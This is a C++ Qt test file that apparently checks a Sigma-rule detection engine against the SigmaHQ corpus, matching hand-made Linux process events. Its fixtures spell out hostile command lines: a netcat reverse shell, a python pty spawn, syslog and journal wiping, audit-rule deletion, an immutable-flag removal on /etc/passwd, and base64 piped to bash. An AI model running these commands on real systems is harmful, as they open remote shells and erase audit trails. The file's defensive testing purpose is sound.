// yagura::detect against the real SigmaHQ corpus (../shared/data/sigma/rules, read in place):
// every rule file loads or is refused for a known reason, and real Linux rules match hand-made
// events.

#include "detect/RuleSet.h"

#include <QElapsedTimer>
#include <QtTest>

#include <filesystem>
#include <set>
#include <string>

using namespace yagura;
using namespace yagura::detect;

namespace {

const char* const kRulesDir = YAGURA_SHARED_DATA_DIR "/sigma/rules";

// Measured with this engine on the corpus in ../shared/data/sigma/rules (3,141 rule files).
constexpr std::size_t kExpectedLoaded = 3141;

std::size_t countRuleFiles(const std::filesystem::path& dir) {
    std::size_t count = 0;
    for (const auto& entry : std::filesystem::recursive_directory_iterator(dir)) {
        const auto ext = entry.path().extension();
        if (entry.is_regular_file() && (ext == ".yml" || ext == ".yaml"))
            ++count;
    }
    return count;
}

// Reasons for which a valid SigmaHQ rule may be refused: it is not a single-event rule, or it
// needs something the engine deliberately does not do. Anything else is a bug.
const std::set<std::string> kKnownReasons = {
    "aggregation",         "correlation rule",  "filter rule",
    "expand placeholders", "unsupported regex", "unsupported modifier",
};

} // namespace

class TestSigmaCorpus : public QObject {
    Q_OBJECT

private slots:
    void initTestCase();
    void loadsEveryRule();
    void linuxRules_data();
    void linuxRules();
    void benignEventMatchesNothing();

private:
    RuleSet m_rules;
    LoadReport m_report;
    qint64 m_loadMs = 0;
};

void TestSigmaCorpus::initTestCase() {
    if (!std::filesystem::is_directory(kRulesDir))
        QSKIP("the SigmaHQ corpus is not present");
    QElapsedTimer timer;
    timer.start();
    m_report = m_rules.loadDirectory(kRulesDir);
    m_loadMs = timer.elapsed();
}

void TestSigmaCorpus::loadsEveryRule() {
    const std::size_t files = countRuleFiles(kRulesDir);
    qInfo("%zu rule files: %zu loaded, %zu unsupported, in %lld ms", files, m_report.loaded,
          m_report.unsupported, static_cast<long long>(m_loadMs));
    for (const auto& [file, message] : m_report.problems)
        qInfo("unsupported: %s: %s", file.c_str(), message.c_str());
    QCOMPARE(m_report.files, files);
    QCOMPARE(m_report.loaded + m_report.unsupported, files);
    QCOMPARE(m_rules.size(), m_report.loaded);
    QCOMPARE(m_report.loaded, kExpectedLoaded);
    for (const auto& [reason, count] : m_report.reasons)
        QVERIFY2(kKnownReasons.count(reason) == 1, qPrintable(QString::fromStdString(reason)));
    for (const auto& [file, message] : m_report.problems) {
        QVERIFY2(message.find('\n') == std::string::npos, message.c_str());
        QVERIFY2(kKnownReasons.count(
                     std::string(problemReason(Error{ErrorCode::Internal, message}))) == 1,
                 (file + ": " + message).c_str());
    }
    QVERIFY2(m_loadMs < 20000, "loading the corpus is far too slow");
}

void TestSigmaCorpus::linuxRules_data() {
    QTest::addColumn<QString>("id");
    QTest::addColumn<QString>("image");
    QTest::addColumn<QString>("commandLine");
    QTest::addColumn<bool>("expected");

    // Netcat reverse shell: endswith + contains lists, `all of selection_*`.
    QTest::newRow("netcat reverse shell") << "7f734ed0-4f47-46c0-837f-6ee62505abd9"
                                          << "/usr/bin/nc"
                                          << "nc 10.0.0.5 4444 -e /bin/bash" << true;
    QTest::newRow("netcat, no shell") << "7f734ed0-4f47-46c0-837f-6ee62505abd9"
                                      << "/usr/bin/nc"
                                      << "nc -l 8080" << false;
    // chattr -i: two fields in one selection.
    QTest::newRow("chattr immutable removal") << "34979410-e4b5-4e5d-8cfb-389fdff05c12"
                                              << "/usr/bin/chattr"
                                              << "chattr -i /etc/passwd" << true;
    QTest::newRow("chattr +i") << "34979410-e4b5-4e5d-8cfb-389fdff05c12"
                               << "/usr/bin/chattr"
                               << "chattr +i /etc/passwd" << false;
    // Python pty spawn: a list of maps inside `all of selection_*`.
    QTest::newRow("python pty spawn")
        << "c4042d54-110d-45dd-a0e1-05c47822c937"
        << "/usr/bin/python3.11"
        << "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'" << true;
    // Clear syslog: `(selection_file and 1 of selection_command_*) or 1 of selection_unique_*`,
    // with `contains|all`.
    QTest::newRow("truncate syslog") << "3fcc9b35-39e4-44c0-a2ad-9e82b6902b31"
                                     << "/usr/bin/truncate"
                                     << "truncate --size 0 /var/log/syslog" << true;
    QTest::newRow("journalctl vacuum") << "3fcc9b35-39e4-44c0-a2ad-9e82b6902b31"
                                       << "/usr/bin/journalctl"
                                       << "journalctl --vacuum-time=1s" << true;
    QTest::newRow("cat syslog") << "3fcc9b35-39e4-44c0-a2ad-9e82b6902b31"
                                << "/usr/bin/cat"
                                << "cat /var/log/syslog" << false;
    // chmod on sensitive directories: `selection and not 1 of filter_main_*`.
    QTest::newRow("chmod /tmp") << "6419afd1-3742-47a5-a7e6-b50386cd15f8"
                                << "/usr/bin/chmod"
                                << "chmod +x /tmp/payload" << true;
    QTest::newRow("chmod, filtered apt-key") << "6419afd1-3742-47a5-a7e6-b50386cd15f8"
                                             << "/usr/bin/chmod"
                                             << "chmod 700 /tmp/apt-key-gpghome.AbC" << false;
    // auditctl -D: `re` (case-sensitive).
    QTest::newRow("auditctl -D") << "bed26dea-4525-47f4-b24a-76e30e44ffb0"
                                 << "/sbin/auditctl"
                                 << "auditctl -D" << true;
    QTest::newRow("auditctl -d") << "bed26dea-4525-47f4-b24a-76e30e44ffb0"
                                 << "/sbin/auditctl"
                                 << "auditctl -d exit,always" << false;
    // pnscan: a regex with a bounded repeat.
    QTest::newRow("pnscan pattern") << "97de11cd-4b67-4abf-9a8b-1020e670aa9e"
                                    << "/usr/bin/pnscan"
                                    << "pnscan -t500 -W \"2a 31 0d 0a\" 10.0.0.0/8 6379" << true;
    // base64 piped to a shell: list of maps with contains / endswith.
    QTest::newRow("base64 | bash") << "ba592c6d-6888-43c3-b8c6-689b8fe47337"
                                   << "/usr/bin/bash"
                                   << "echo ZWNobyBoaQ== | base64 -d | bash" << true;
}

void TestSigmaCorpus::linuxRules() {
    QFETCH(QString, id);
    QFETCH(QString, image);
    QFETCH(QString, commandLine);
    QFETCH(bool, expected);

    const Rule* rule = m_rules.findById(id.toStdString());
    QVERIFY2(rule != nullptr, qPrintable(id));
    Event event("process_creation", "linux");
    event.set("Image", image.toStdString());
    event.set("CommandLine", commandLine.toStdString());
    event.set("ParentImage", "/usr/bin/bash");
    event.set("ParentCommandLine", "-bash");
    event.set("User", "alice");
    event.set("CurrentDirectory", "/home/alice");
    event.set("ProcessId", "4242");
    QCOMPARE(rule->matches(event), expected);
    // Through the index as well: the rule is among the set's matches exactly when it matches.
    bool listed = false;
    for (const Rule* matched : m_rules.match(event))
        listed |= matched == rule;
    QCOMPARE(listed, expected);
}

void TestSigmaCorpus::benignEventMatchesNothing() {
    Event event("process_creation", "linux");
    event.set("Image", "/usr/bin/ls");
    event.set("CommandLine", "ls --color=auto -la /home/alice/projects");
    event.set("ParentImage", "/usr/bin/bash");
    event.set("ParentCommandLine", "-bash");
    event.set("User", "alice");
    event.set("CurrentDirectory", "/home/alice");
    event.set("ProcessId", "4242");
    event.set("ParentProcessId", "4100");
    QStringList titles;
    for (const Rule* rule : m_rules.match(event))
        titles << QString::fromStdString(rule->title);
    QVERIFY2(titles.isEmpty(), qPrintable(titles.join("; ")));
    QVERIFY(m_rules.candidateCount(event) > 100);
}

QTEST_GUILESS_MAIN(TestSigmaCorpus)
#include "TestSigmaCorpus.moc"
